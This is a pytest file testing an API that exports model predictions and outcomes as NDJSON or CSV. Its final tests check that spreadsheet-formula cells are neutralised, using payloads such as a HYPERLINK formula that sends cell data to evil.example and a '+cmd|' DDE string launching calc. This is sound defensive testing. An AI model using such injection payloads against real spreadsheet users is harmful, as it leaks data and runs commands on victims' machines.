"""GET /v1/models/{name}/export: predictions sent through the API come back with their outcomes."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import orjson
import pytest
from fastapi import FastAPI

from service.datasets import service
from service.datasets.formats import neutralised
from service.datasets.schemas import ExportFormat, ExportRequest
from service.storage.database import unit_of_work
from tests.asgi_client import AppClient
from tests.factories import (
    CATEGORICAL_FEATURES,
    NUMERIC_FEATURES,
    START,
    features,
    outcome,
    prediction,
    predictions,
    registration,
)

URL = "/v1/models/credit/export"
# p6 (the first in the window) to p33: from is inclusive, to exclusive.
WINDOW = {
    "from": (START + timedelta(minutes=6)).isoformat(),
    "to": (START + timedelta(minutes=34)).isoformat(),
}
IN_WINDOW = range(6, 34)
LABELLED = [i for i in IN_WINDOW if i % 2 == 0]  # outcomes are sent for even ids only


@pytest.fixture
def sent(client: AppClient) -> AppClient:
    """40 predictions one minute apart (p0..p39); outcomes for the even ones."""
    assert client.post("/v1/models", json=registration()).status_code == 201
    assert client.post("/v1/models/credit/predictions", json=predictions(0, 40)).status_code == 200
    body = {"outcomes": [outcome(i) for i in range(0, 40, 2)]}
    assert client.post("/v1/models/credit/outcomes", json=body).json()["accepted"] == 20
    return client


def ndjson(response: Any) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/x-ndjson"
    return [orjson.loads(line) for line in response.content.splitlines()]


def csv_rows(response: Any) -> tuple[list[str], list[dict[str, str]]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    reader = csv.DictReader(io.StringIO(response.text))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def test_ndjson_holds_the_labelled_predictions_of_the_window_in_id_order(sent: AppClient) -> None:
    records = ndjson(sent.get(URL, params=WINDOW))
    assert [r["prediction_id"] for r in records] == [f"p{i}" for i in LABELLED]
    first = records[0]
    sent_record, sent_outcome = prediction(6), outcome(6)
    assert first["version"] == "v1"
    assert first["event_time"] == sent_record["timestamp"]
    assert first["features"] == features(6)
    assert first["prediction"] == str(sent_record["prediction"])  # class labels in their text form
    assert first["score"] == sent_record["score"]
    assert first["attributes"] == sent_record["attributes"]
    assert first["label"] == str(sent_outcome["label"])
    assert first["outcome_time"] == sent_outcome["timestamp"]
    assert {r["label"] for r in records} == {"0", "1"}


def test_labelled_false_adds_the_predictions_without_an_outcome(sent: AppClient) -> None:
    records = ndjson(sent.get(URL, params=WINDOW | {"labelled": "false"}))
    assert [r["prediction_id"] for r in records] == [f"p{i}" for i in IN_WINDOW]
    unlabelled = [r for r in records if r["label"] is None]
    assert [r["prediction_id"] for r in unlabelled] == [f"p{i}" for i in IN_WINDOW if i % 2]
    assert all(r["outcome_time"] is None for r in unlabelled)


def test_csv_flattens_features_and_attributes_under_a_header_from_the_schema(sent: AppClient) -> None:
    response = sent.get(URL, params=WINDOW | {"format": "csv", "labelled": "false"})
    header, rows = csv_rows(response)
    assert header == [
        "prediction_id",
        "version",
        "event_time",
        *(f"feature.{name}" for name in NUMERIC_FEATURES + CATEGORICAL_FEATURES),
        "prediction",
        "score",
        "attribute.age_band",
        "attribute.sex",
        "label",
        "outcome_time",
    ]
    assert len(rows) == len(IN_WINDOW)
    by_id = {row["prediction_id"]: row for row in rows}
    assert float(by_id["p6"]["feature.num_03"]) == features(6)["num_03"]
    assert by_id["p6"]["feature.cat_1"] == features(6)["cat_1"]
    assert by_id["p6"]["attribute.sex"] == prediction(6)["attributes"]["sex"]
    assert by_id["p6"]["label"] == str(outcome(6)["label"])
    assert (by_id["p7"]["label"], by_id["p7"]["outcome_time"]) == ("", "")


def test_both_formats_name_the_file_after_the_model_and_window(sent: AppClient) -> None:
    for fmt in ("ndjson", "csv"):
        response = sent.get(URL, params=WINDOW | {"format": fmt})
        expected = f'attachment; filename="credit_20261101T000600Z_20261101T003400Z.{fmt}"'
        assert response.headers["content-disposition"] == expected


def test_limit_keeps_the_first_rows(sent: AppClient) -> None:
    records = ndjson(sent.get(URL, params=WINDOW | {"limit": 3}))
    assert [r["prediction_id"] for r in records] == [f"p{i}" for i in LABELLED[:3]]


def test_an_empty_window_is_an_empty_body_or_a_lone_header(sent: AppClient) -> None:
    empty = {"from": "2020-01-01T00:00:00Z", "to": "2020-02-01T00:00:00Z"}
    assert ndjson(sent.get(URL, params=empty)) == []
    header, rows = csv_rows(sent.get(URL, params=empty | {"format": "csv"}))
    assert header[0] == "prediction_id" and rows == []


@pytest.mark.slow
def test_pages_of_any_size_join_into_the_same_export(sent: AppClient, app: FastAPI) -> None:
    request = ExportRequest(START, START + timedelta(hours=1), ExportFormat.CSV, None, False, 38)
    sessions = app.state.context.sessions
    with unit_of_work(sessions) as session:
        plan = service.plan_export(session, "credit", request)
    whole = b"".join(service.stream(sessions, plan))
    pages = list(service.stream(sessions, plan, page_rows=7))
    assert len(pages) == 1 + 6  # the header, then 38 rows in pages of 7
    assert b"".join(pages) == whole
    assert whole.count(b"\r\n") == 1 + 38


def test_version_selects_one_version(sent: AppClient) -> None:
    assert sent.post("/v1/models", json=registration(version="v2")).status_code == 201
    body = {"predictions": [prediction(i, prefix="q", version="v2") for i in range(10, 14)]}
    assert sent.post("/v1/models/credit/predictions", json=body).status_code == 200
    params = WINDOW | {"labelled": "false"}
    v2 = ndjson(sent.get(URL, params=params | {"version": "v2"}))
    assert [(r["prediction_id"], r["version"]) for r in v2] == [(f"q{i}", "v2") for i in range(10, 14)]
    everything = ndjson(sent.get(URL, params=params))
    assert len(everything) == len(IN_WINDOW) + 4
    assert [r["prediction_id"] for r in everything][-4:] == ["q10", "q11", "q12", "q13"]  # id order


def test_a_regression_model_exports_values(client: AppClient) -> None:
    client.post("/v1/models", json=registration(name="amount", task="regression", positive_label=None))
    record = prediction(0, prediction=1234.5)
    del record["score"]
    assert client.post("/v1/models/amount/predictions", json={"predictions": [record]}).status_code == 200
    body = {"outcomes": [{"prediction_id": "p0", "value": 1200.0, "timestamp": outcome(0)["timestamp"]}]}
    assert client.post("/v1/models/amount/outcomes", json=body).status_code == 200
    [exported] = ndjson(client.get("/v1/models/amount/export", params=WINDOW | {"from": START.isoformat()}))
    assert (exported["prediction"], exported["label"]) == (1234.5, 1200.0)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"to": WINDOW["to"]}, "from"),
        ({"from": WINDOW["from"]}, "to"),
        (WINDOW | {"from": "2026-11-01T00:00:00"}, "from"),
        (WINDOW | {"from": "0001-01-01T00:00:00+01:00"}, "from"),
        (WINDOW | {"to": WINDOW["from"]}, "to"),
        ({"from": "2025-01-01T00:00:00Z", "to": "2026-02-05T00:00:01Z"}, "to"),
        (WINDOW | {"format": "xml"}, "format"),
        (WINDOW | {"version": "v9"}, "version"),
        (WINDOW | {"labelled": "perhaps"}, "labelled"),
        (WINDOW | {"limit": 0}, "limit"),
    ],
)
def test_bad_parameters_are_422_naming_the_parameter(
    sent: AppClient, params: dict[str, str], field: str
) -> None:
    response = sent.get(URL, params=params)
    assert response.status_code == 422, response.text
    body = response.json()
    assert [error["field"] for error in body["errors"]] == [field]
    assert body["error_count"] == 1


def test_an_unknown_model_is_404(client: AppClient) -> None:
    response = client.get("/v1/models/nobody/export", params=WINDOW)
    assert response.status_code == 404
    assert "nobody" in response.json()["detail"]


HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"details")'


@pytest.mark.slow
def test_csv_cells_that_would_start_a_formula_are_text(client: AppClient) -> None:
    assert client.post("/v1/models", json=registration()).status_code == 201
    hostile = features(6) | {
        "cat_0": HYPERLINK,
        "cat_1": "@SUM(A1:A9)",
        "cat_2": "+cmd|' /C calc'!A0",
        "cat_3": "-1",
        "num_00": -3.5,
    }
    record = prediction(6, features=hostile, attributes={"sex": "-2+3", "age_band": "25-44"})
    assert (
        client.post(URL.replace("export", "predictions"), json={"predictions": [record]}).status_code == 200
    )
    assert client.post("/v1/models/credit/outcomes", json={"outcomes": [outcome(6)]}).status_code == 200
    _, (row,) = csv_rows(client.get(URL, params=WINDOW | {"format": "csv"}))
    assert row["feature.cat_0"] == "'" + HYPERLINK
    assert row["feature.cat_1"] == "'@SUM(A1:A9)"
    assert row["feature.cat_2"] == "'+cmd|' /C calc'!A0"
    assert row["attribute.sex"] == "'-2+3"
    # Numbers stay numbers: a negative float and a category that is a signed number.
    assert (row["feature.num_00"], row["feature.cat_3"]) == ("-3.5", "-1")
    # NDJSON is not read by spreadsheets: values come back exactly as sent.
    (line,) = ndjson(client.get(URL, params=WINDOW))
    assert line["features"]["cat_0"] == HYPERLINK


@pytest.mark.parametrize(
    ("cell", "written"),
    [("\tx", "'\tx"), ("\rx", "'\rx"), ("=1+1", "'=1+1"), ("+3e-2", "+3e-2"), ("-.5", "-.5"), (-7, -7)],
)
def test_neutralised_prefixes_formula_starts_only(cell: object, written: object) -> None:
    assert neutralised(cell) == written
